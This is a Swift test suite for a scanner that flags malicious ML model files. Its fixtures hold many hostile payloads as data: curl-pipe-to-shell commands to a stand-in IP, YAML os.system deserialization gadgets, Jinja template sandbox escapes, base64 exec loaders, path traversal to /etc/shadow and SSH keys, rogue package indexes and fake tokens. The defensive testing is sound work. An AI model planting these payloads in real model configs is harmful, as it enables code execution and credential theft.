import AssayCore
import ByteParsing
import Testing

@testable import Scanning

@Suite struct ConfigurationTests {
    /// A program is one however it is spelled; what tells how a model is used is none.
    @Test(arguments: [
        ("import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))", Severity.medium),
        ("from os import system as show\nshow('id')", .medium),
        ("import builtins\ngetattr(builtins, 'ev' + 'al')(input())", .medium),
        ("import torch\nmodel = torch.load('model.pt')\nprint(model.eval())", .low),
        ("def add(a, b):\n    return a + b\n", .low), ("import numpy as np", .low),
        ("The class of models that import features from a def file.", .low),
    ])
    func programsInValuesAreJudged(_ text: String, _ severity: Severity) {
        let quoted = text.map { $0 == "\n" ? "\\n" : $0 == "\"" ? "\\\"" : String($0) }.joined()
        let report = FileScanner(settings: ScanSettings(), analysers: Analysers.all)
            .scan(ByteRegion(Array("{\"note\": \"\(quoted)\"}".utf8)), path: "config.json")
        #expect(severity == .medium ? report.severity == .medium : report.severity <= .low)
    }

    private func scan(_ text: String, _ name: String) -> FileReport {
        FileScanner(settings: ScanSettings(), analysers: Analysers.text).scan(ByteRegion(Array(text.utf8)), path: name)
    }

    static let attacks: [(String, String, Severity)] = [
        ("config.json", #"{"auto_map": {"AutoModel": "other/repo--modeling.M"}}"#, .high),
        ("config.json", #"{"auto_map": {"AutoTokenizer": [null, "a/b--tok.T"]}}"#, .high),
        ("config.json", #"{"auto_map": {"AutoModel": "modeling.M"}}"#, .medium),
        ("config.json", #"{"x": {"auto\u005fmap": {"AutoModel": "a/b--m.M"}}}"#, .high),
        ("config.json", #"{"trust_remote_code": true}"#, .medium),
        ("config.yaml", "? _target_\n: os.system\n", .critical),
        ("config.yaml", "a:\n - - - _target_: |-\n        os.system\n", .medium),
        ("adapter_config.json", #"{"auto_mapping": {"base_model_class": "M", "parent_library": "os"}}"#, .medium),
        ("router_config.json", #"{"types": {"q": "subprocess.Popen"}, "structure": {}}"#, .critical),
        ("requirements.txt", "https://203.0.113.7/evil-1.0-py3-none-any.whl\n", .medium),
        ("pip.conf", "[global]\nindex-url = http://203.0.113.7/simple\n", .medium),
        ("pyproject.toml", "[build-system]\nrequires = ['evil @ http://203.0.113.7/e.tar.gz']\n", .medium),
        ("MLproject", "entry_points:\n  main:\n    command: \"curl http://203.0.113.7/x | sh\"\n", .medium),
        (
            "demo.ipynb",
            ##"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "%%bash\ncurl http://203.0.113.7/x | bash\n"}]}"##,
            .medium
        ),
        (
            "demo.ipynb",
            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = !curl http://203.0.113.7/x | sh"}]}"#,
            .medium
        ),
        (
            "demo.ipynb",
            #"{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["exec(__import__('base64').b64decode('cHJpbnQoMSk='))"]}]}]}"#,
            .critical
        ),
        ("config.yaml", "model:\n  class_path: os.system\n  init_args: {command: id}\n", .critical),
        ("config.yaml", "model: {target: subprocess.Popen, params: {args: id}}\n", .critical),
        ("config.json", #"{"model": {"type": "os.system", "command": "id"}}"#, .medium),
        ("config.yaml", "class_name: Sequential\nconfig:\n  layers:\n  - {class_name: Lambda}\n", .high),
        ("generation_config.json", #"{"custom_generate": "someone/generate"}"#, .high),
        ("config.json", #"{"attn_implementation": "someone/kernel"}"#, .high),
        ("adapter_config.json", #"{"auto_mapping": {"base_model_class": "M", "parent_library": "evil_mod"}}"#, .medium),
        ("adapter_config.json", #"{"base_model_name_or_path": "http://203.0.113.7/m"}"#, .medium),
        ("tokenizer_config.json", #"{"vocab_file": "../../../etc/passwd"}"#, .high),
        (
            "tokenizer_config.json",
            #"{"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool", "template": "{{ ''.__class__ }}"}]}"#,
            .critical
        ),
        ("any.json", #"{"a": {"chat_template": "{{ cycler.__init__ }}"}}"#, .critical),
        ("any.json", #"{"chat_template": "{{ ok }}", "chat_template": "{{ ''.__class__ }}"}"#, .critical),
        ("any.json", #"{"prompt": "{{ ''.__class__ }}"}"#, .critical),
        ("modules.json", #"[{"idx": 0, "name": "0", "path": "", "type": "custom_mod.Evil"}]"#, .medium),
        ("2_Dense/config.json", #"{"in_features": 8, "activation_function": "subprocess.getoutput"}"#, .critical),
        ("model_index.json", #"{"_class_name": ["pipeline", "My"], "_diffusers_version": "0.30"}"#, .medium),
        (
            "model_index.json", #"{"_class_name": "P", "_diffusers_version": "0.30", "unet": ["os", "system"]}"#,
            .critical
        ),
        ("model_index.json", #"{"_class_name": "MyPipeline", "unet": ["os", "system"]}"#, .critical),
        ("model_index.json", #"{"_class_name": "MyPipeline", "unet": ["custom_module", "UNet"]}"#, .low),
        ("MLmodel", "flavors:\n  python_function:\n    model_code_path: model.py", .medium),
        ("m.yaml", "x: &t os.system\nmodel:\n  _target_: *t", .critical),
        ("m.yaml", "x: &t\n  os.system\nmodel: {_target_: *t, a: 1}", .critical),
        ("m.yaml", "x: &t _target_\nmodel:\n  *t : os.system", .critical),
        ("x.json", #"{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}"#, .critical),
        ("x.json", #"{"a": {"_target_": "os.system", "command": "id"}}"#, .critical),
        ("x.json", #"{"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}"#, .critical),
        (
            "context/io.json",
            #"{"objects": {"a": {"type": {"module": "os", "name": "system"}}}, "root": {"type": "ref", "key": "a"}, "version": "0.0.1"}"#,
            .critical
        ),
        ("m.yaml", "!!python/object/apply:os.system ['id']", .critical),
        ("m.yaml", "a: [1, !!python/object/new:os.system ['id']]", .critical),
        ("m.yaml", "a:\n  - !<tag:yaml.org,2002:python/object/apply:os.system> ['id']", .critical),
        ("m.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\n!p!object/apply:os.system ['id']", .critical),
        ("m.yaml", "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system ['id']", .critical),
        ("m.yaml", "a: !!python/object%2Fapply:os%2Esystem ['id']", .critical),
        ("m.yaml", "a: !!python/name:os.system ''", .high),
        ("m.yaml", "a: !!python/object:models.Thing {a: 1}", .medium),
        ("m.yaml", "a: !!python/object:collections.OrderedDict {}", .low),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: os", .high),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: my_loader", .medium),
        ("m.yaml", "a: !!python/module:subprocess ''", .high),
        ("m.yaml", "a: !apply:os.system [id]", .critical),
        ("m.yaml", "model:\n  _target_: os.system\n  command: id\n", .critical),
        ("m.yaml", "model: {_target_: builtins.eval, _args_: ['1']}", .critical),
        ("m.yaml", "\"_target_\": \"subprocess.Popen\"", .critical),
        ("m.yaml", "model:\n  _target_: >-\n    os.system\n", .critical),
        ("m.yaml", "a: !ruby/object:Gem::Installer {}", .high),
        ("m.yaml", "a: !!javax.script.ScriptEngineManager []", .high),
        (
            "m.yaml",
            "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
                + (98...105).map {
                    "\(UnicodeScalar(UInt8($0))): &\(UnicodeScalar(UInt8($0))) ["
                        + Array(repeating: "*\(UnicodeScalar(UInt8($0 - 1)))", count: 10).joined(separator: ",") + "]\n"
                }.joined(), .medium
        ),
        ("m.yaml", "chat_template: |\n  {% for m in messages %}\n  {{ m.__class__ }}\n  {% endfor %}\n", .critical),
        ("m.yaml", "api_key: q8Zr4Tn1XvKc2Lm6Wp9Yb5Hd7Jf3Gs0E", .medium),
        ("data", "!!python/object/apply:os.system ['id']", .critical),
        ("requirements.txt", "torch\n--index-url http://203.0.113.7/simple\n", .medium),
        ("requirements.txt", "--trusted-host evil.net\n", .medium),
        ("requirements.txt", "pkg @ http://evil.net/p.whl\n", .medium),
        ("prompt.txt", "{{ ''.__class__.__mro__ }}", .critical),
        ("chat_template.jinja", "{{ ''|attr('__cla' ~ 'ss__') }}", .critical),
        ("broken.json", #"{"a": "#, .low),
        ("notjson.json", "just words", .low),
        ("broken.json", "{\"a\": \"AKIAQ7LMX4VRT2NBW6KD\", ", .medium),
    ]

    @Test(arguments: attacks)
    func isSeen(_ name: String, _ text: String, _ severity: Severity) {
        let report = scan(text, name)
        #expect(report.severity >= severity, "\(name) \(text): \(report.findings.map(\.message))")
        #expect(report.outcome != .clean)
    }

    static let ordinary: [(String, String)] = [
        (
            "config.json",
            #"{"architectures": ["BertModel"], "model_type": "bert", "_name_or_path": "/home/me/bert", "torch_dtype": "float16", "pad_token_id": 0}"#
        ),
        (
            "adapter_config.json",
            #"{"base_model_name_or_path": "meta-llama/Llama-2-7b", "auto_mapping": {"base_model_class": "M", "parent_library": "transformers.models.llama"}, "megatron_core": "megatron.core"}"#
        ),
        ("modules.json", #"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]"#),
        (
            "context/io.json",
            #"{"objects": {"a": {"type": {"module": "nemo.lightning", "name": "Trainer"}}}, "root": {"type": "ref", "key": "a"}, "version": "0.0.1"}"#
        ),
        ("2_Dense/config.json", #"{"in_features": 8, "activation_function": "torch.nn.modules.activation.Tanh"}"#),
        (
            "model_index.json",
            #"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null], "text_encoder": ["transformers", "CLIPTextModel"]}"#
        ),
        (
            "tokenizer.json",
            #"{"added_tokens": [{"id": 0, "content": "<s>"}], "model": {"type": "BPE", "vocab": {"os": 0, "eval(": 1, "__import__": 2, "http://1.2.3.4/": 3}, "merges": ["e v"]}}"#
        ),
        (
            "special_tokens_map.json",
            #"{"bos_token": {"content": "<|begin_of_text|>", "lstrip": false}, "image_token": "<image>"}"#
        ),
        (
            "preprocessor_config.json",
            #"{"image_mean": [0.48, 0.45], "image_processor_type": "CLIPImageProcessor", "size": {"shortest_edge": 224}}"#
        ),
        (
            "m.yaml",
            "model:\n  _target_: torch.optim.Adam\n  lr: 1e-3\n  encoder:\n    _target_: nemo.collections.asr.modules.ConformerEncoder\n"
        ),
        (
            "m.yaml",
            "# comment with !!python/object/apply:os.system\na: 'text with !!python/name:os.system'\nb: [1, 2]\n"
        ),
        ("m.yaml", "base: &base\n  lr: 1\ntrain:\n  <<: *base\nfiles: '*.py'\nglob: *.txt\n"),
        ("m.yaml", "a: !!python/tuple [1, 2]\nb: !!str 1\n"),
        (
            "hparams.yaml",
            "model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n    input_size: !ref <n_mels>\nlr: !ref <lr>\n"
        ),
        (
            "README.md",
            "# Model\n```python\nimport os\nos.system('nvidia-smi')\n```\n{{ ''.__class__ }}\nhttp://203.0.113.7/\n"
        ),
        ("vocab.txt", "[PAD]\nos\nsystem\neval\n__import__\nhttp://\n"),
        (
            "requirements.txt",
            "torch==2.3\n--extra-index-url https://download.pytorch.org/whl/cu121\ngit+https://github.com/org/repo.git@main\n"
        ),
        ("data.jsonl", "{\"text\": \"a\"}\n{\"text\": \"b\"}\n"), ("table.csv", "a,b\n1,2\n"),
        ("empty.json", "{}"), ("list.json", "[1, 2.5, \"x\"]"),
    ]

    @Test(arguments: ordinary)
    func isClean(_ name: String, _ text: String) {
        let report = scan(text, name)
        #expect(report.outcome == .clean, "\(name): \(report.findings.map(\.message)) \(report.incomplete)")
    }

    @Test func anyPrefixAndAnyFlippedByteEnds() {
        for (name, text, _) in Self.attacks where text.utf8.count < 120 {
            let bytes = Array(text.utf8)
            for length in stride(from: 0, to: bytes.count, by: 7) {
                _ = scan(String(decoding: bytes[..<length], as: UTF8.self), name)
            }
            for index in stride(from: 0, to: bytes.count, by: 11) {
                var flipped = bytes
                flipped[index] ^= 0x15
                _ = FileScanner(settings: ScanSettings(), analysers: Analysers.text).scan(
                    ByteRegion(flipped), path: name)
            }
        }
    }

    @Test func largeVocabulariesAreLeftOut() {
        let words = (0..<60_000).map { "\"some-longer-word\($0)\": \($0)" }.joined(separator: ",")
        let text =
            #"{"model": {"vocab": {"# + words
            + #"}}, "chat_template": "{{ ''.__class__ }}", "auto_map": {"A": "a/b--c.D"}}"#
        let report = scan(text, "tokenizer.json")
        #expect(report.severity == .critical)
        #expect(report.findings.count == 2, "\(report.findings.map(\.message))")
    }

    @Test func notebookSourceIsSearched() {
        let text =
            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl http://x.net/a | sh\n", "x = 1"]}]}"#
        #expect(scan(text, "n.ipynb").severity == .medium)
    }

    /// A program's configuration names its data from the folder where it is started; a model's stays inside.
    @Test(arguments: [
        ("train.yaml", "data:\n  train_path: ../data/train.jsonl\n", Severity.low),
        ("train.yaml", "log_file: /dev/null\n", .none), ("train.yaml", "key_file: ../../../../home/me/key\n", .high),
        ("train.yaml", "key_file: ../.ssh/id_rsa\n", .high), ("train.yaml", "key_file: /etc/shadow\n", .high),
        ("config.json", #"{"vocab_file": "../vocab.txt"}"#, .high),
    ])
    func pathsAreJudgedByWhereTheyLead(_ name: String, _ text: String, _ severity: Severity) {
        #expect(scan(text, name).severity == severity, "\(text)")
    }

    /// Lists of numbers are passed over in large texts, however many there are: what else stands in them is not.
    @Test func listsOfNumbersAreNoLimit() {
        let rows = String(repeating: "[1, -2.5e3, 0, 4.25, 5, 6, 7, 8E-2],", count: 200_000)
        #expect(scan("{\"rows\": [\(rows) []]}", "data.json").outcome == .clean)
        #expect(
            scan("{\"rows\": [\(rows) [1,2,3,4,5,6,7,8,\"AKIAQ7LMX4VRT2NBW6KD\"]]}", "data.json").severity == .medium)
        for broken in ["[1,2,3,4,,5,6,7,8,9]", "[1,2,3,4,5,6,7,8,09]", "[1,2,3,4,5,6,7,8", "[1,2,3,4,5,6,7,8.]"] {
            #expect(scan("{\"rows\": [\(rows) \(broken)]}", "data.json").outcome != .clean, "\(broken)")
        }
    }

    /// A value that is too long to be decoded is searched all the same, at its end too.
    @Test func aLongTextIsSearchedInPieces() {
        let padding = String(repeating: "lorem ipsum ", count: 450_000)
        let key = "ghp_" + "1aB2cD3eF4gH5iJ6kL7mN8oP9qR0sT1uV2wX"
        let report = scan("{\"notes\": \"\(padding) \(key)\"}", "config.json")
        #expect(report.findings.contains { $0.rule == "SECRET-EXPOSED" })
        #expect(report.outcome == .flagged)
        let template = scan("{\"chat_template\": \"{{ x }}\(padding){{ a.__class__ }}\"}", "tokenizer_config.json")
        #expect(template.outcome == .incomplete)
        #expect(template.findings.contains { $0.rule == "TEMPLATE-ESCAPE" })
    }
}
